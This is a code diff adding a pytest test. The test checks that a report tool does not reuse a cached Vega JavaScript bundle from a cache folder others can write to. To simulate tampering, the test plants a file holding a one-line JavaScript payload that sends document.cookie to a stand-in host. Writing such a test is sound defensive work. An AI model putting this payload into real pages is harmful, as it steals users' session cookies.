@@ -236,6 +236,23 @@ def test_vega_bundle_is_cached_per_vl_convert_version(tmp_path, monkeypatch):
     assert _vega_javascript() == bundle
 
 
+def test_a_bundle_in_a_folder_others_may_write_to_is_not_used(tmp_path, monkeypatch):
+    """The bundle goes into the interactive HTML as a script: one planted in a cache folder
+    that is not private must not reach a pack (bundled again instead)."""
+    from importlib.metadata import version
+
+    from saferboard.report.pack import _vega_javascript
+
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
+    bundle = _vega_javascript()
+    folder = tmp_path / "saferboard"
+    assert folder.stat().st_mode & 0o777 == 0o700  # whatever the umask
+    planted = folder / f"vl-convert-{version('vl-convert-python')}-bundle.js"
+    planted.write_text("fetch('https://example.invalid/?' + document.cookie)", encoding="utf-8")
+    folder.chmod(0o777)
+    assert _vega_javascript() == bundle
+
+
 def test_leaving_the_converter_early_ends_its_process():
     """An error while the pack is built (here, before finish) must not leave the child."""
     with pytest.raises(KeyError), vega.Converter() as converter:
